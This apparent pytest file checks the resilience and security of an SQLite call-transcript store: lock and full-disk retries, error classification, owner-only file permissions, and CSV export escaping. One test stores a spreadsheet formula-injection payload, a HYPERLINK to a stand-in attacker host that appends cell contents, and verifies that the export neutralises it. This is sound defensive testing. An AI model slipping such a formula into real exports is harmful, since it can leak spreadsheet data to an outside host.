"""The store keeps every line through the outages a real deployment meets: another process holding the
SQLite lock for longer than the busy timeout, and a full disk that later has room again."""

from __future__ import annotations

import sqlite3
import stat
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import total
from voiceagent.metrics import Metrics
from voiceagent.store import CallRecord, CallStore, LineRecord, RecordsSettings
from voiceagent.store import backend as store_backend
from voiceagent.store.backend import SqliteConnection, connect, error_kind, migrate
from voiceagent.store.writer import Statement, StoreWriter

WAIT = 60.0
INSTANCE = "test-host:8080"


def sid() -> str:
    return "CA" + uuid.uuid4().hex


def test_a_lock_held_past_the_busy_timeout_loses_no_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A backup (or someone in ``sqlite3``) holds ``BEGIN EXCLUSIVE`` while calls go on: every write waits
    for it, however long, instead of being split up and refused one by one."""
    monkeypatch.setattr(store_backend, "SQLITE_BUSY_TIMEOUT_SECONDS", 0.1)  # 5 s in production: same path
    settings = RecordsSettings.sqlite(tmp_path / "calls.db", instance=INSTANCE)
    metrics = Metrics()
    store = CallStore(settings, observer=metrics)
    store.open()
    try:
        blocker = sqlite3.connect(settings.sqlite_path, isolation_level=None, timeout=WAIT)
        blocker.execute("BEGIN EXCLUSIVE")
        calls = [sid() for _ in range(20)]
        for n, call_sid in enumerate(calls):
            store.call_started(CallRecord(call_sid=call_sid, instance=INSTANCE, started_at=time.time()))
            for seq in range(3):
                store.line(call_sid, LineRecord(seq=seq, at=time.time(), offset_ms=seq, role="caller", text=f"{n}"))
        deadline = time.monotonic() + WAIT
        while total(metrics.store_failures) < 3 and time.monotonic() < deadline:
            time.sleep(0.05)  # bounded: until the writer has met the lock a few times
        assert total(metrics.store_failures) >= 3
        blocker.execute("ROLLBACK")
        blocker.close()
        assert store.flush(WAIT)
        kept = sum(len(store.transcript(call_sid)) for call_sid in calls)
    finally:
        store.close()
    assert kept == 60
    assert total(metrics.store_lost) == 0


def test_a_full_disk_holds_the_writes_until_there_is_room_again(tmp_path: Path) -> None:
    """SQLITE_FULL, as a full disk gives it (here: the database's page limit), is waited out."""
    settings = RecordsSettings.sqlite(tmp_path / "calls.db", instance=INSTANCE)
    setup = connect(settings)
    migrate(setup)
    [row] = setup.query("PRAGMA page_count")
    setup.close()
    room = {"pages": int(row["page_count"])}  # no room for one more page

    def limited() -> Any:
        connection = connect(settings)
        assert isinstance(connection, SqliteConnection)
        connection.query(f"PRAGMA max_page_count = {room['pages']}")
        return connection

    metrics = Metrics()
    writer = StoreWriter(limited, observer=metrics)
    writer.start()
    try:
        call_sid = sid()
        writer.put(
            Statement(
                "INSERT INTO calls (call_sid, instance, started_at) VALUES (?, ?, ?)", (call_sid, "x", 1.0), "call"
            )
        )
        for seq in range(200):  # enough to need new pages
            writer.put(
                Statement(
                    "INSERT INTO transcript_lines (call_sid, seq, at, offset_ms, role, text) VALUES (?, ?, ?, ?, ?, ?)",
                    (call_sid, seq, 1.0, seq, "caller", "x" * 200),
                    "line",
                )
            )
        deadline = time.monotonic() + WAIT
        while total(metrics.store_failures) < 3 and time.monotonic() < deadline:
            time.sleep(0.05)
        assert total(metrics.store_failures) >= 3  # the disk was full...
        room["pages"] = 1_000_000  # ...and then space was freed
        assert writer.flush(WAIT)
    finally:
        writer.stop(WAIT)
    reader = connect(settings, read_only=True)
    try:
        [count] = reader.query("SELECT COUNT(*) AS n FROM transcript_lines WHERE call_sid = ?", (call_sid,))
    finally:
        reader.close()
    assert count["n"] == 200 and total(metrics.store_lost) == 0


def test_errors_are_told_apart_transient_from_data() -> None:
    locked = sqlite3.OperationalError("database is locked")
    locked.sqlite_errorname = "SQLITE_BUSY"
    full = sqlite3.OperationalError("database or disk is full")
    full.sqlite_errorname = "SQLITE_FULL"
    refused = sqlite3.IntegrityError("FOREIGN KEY constraint failed")
    refused.sqlite_errorname = "SQLITE_CONSTRAINT_FOREIGNKEY"
    assert [error_kind(e) for e in (locked, full, refused, OSError("gone"))] == [
        "transient",
        "transient",
        "data",
        "transient",
    ]
    assert error_kind(ValueError("?")) == "unknown"


def test_the_database_and_its_wal_are_readable_by_their_owner_only(tmp_path: Path) -> None:
    settings = RecordsSettings.sqlite(tmp_path / "private" / "calls.db", instance=INSTANCE)
    store = CallStore(settings)
    store.open()
    try:
        store.call_started(CallRecord(call_sid=sid(), instance=INSTANCE, started_at=time.time()))
        assert store.flush(WAIT)
        files = [Path(settings.sqlite_path + suffix) for suffix in ("", "-wal", "-shm")]
        modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in files if path.exists()}
        directory = stat.S_IMODE(Path(settings.sqlite_path).parent.stat().st_mode)
    finally:
        store.close()
    assert modes["calls.db"] == 0o600 and modes.get("calls.db-wal", 0o600) == 0o600, modes
    assert all(mode & 0o077 == 0 for mode in modes.values()), modes
    assert directory == 0o700


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    import csv
    import io

    from voiceagent.records_cli import export

    settings = RecordsSettings.sqlite(tmp_path / "calls.db", instance=INSTANCE)
    store = CallStore(settings)
    store.open()
    call_sid = sid()
    store.call_started(CallRecord(call_sid=call_sid, instance=INSTANCE, started_at=1.0, from_number="+1555***4567"))
    store.line(call_sid, LineRecord(seq=0, at=1.0, offset_ms=0, role="caller", text="ok"))
    ended = CallRecord(call_sid=call_sid, instance=INSTANCE, started_at=1.0, ended_at=2.0, from_number="+1555***4567")
    ended.end_reason = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    store.call_ended(ended)
    store.close()
    out = io.StringIO()
    assert export(settings, format="csv", out=out, err=io.StringIO()) == 0
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["end_reason"].startswith("'=HYPERLINK") and row["from_number"] == "'+1555***4567"
    assert all(not value.startswith(("=", "+", "-", "@")) for value in row.values()), row
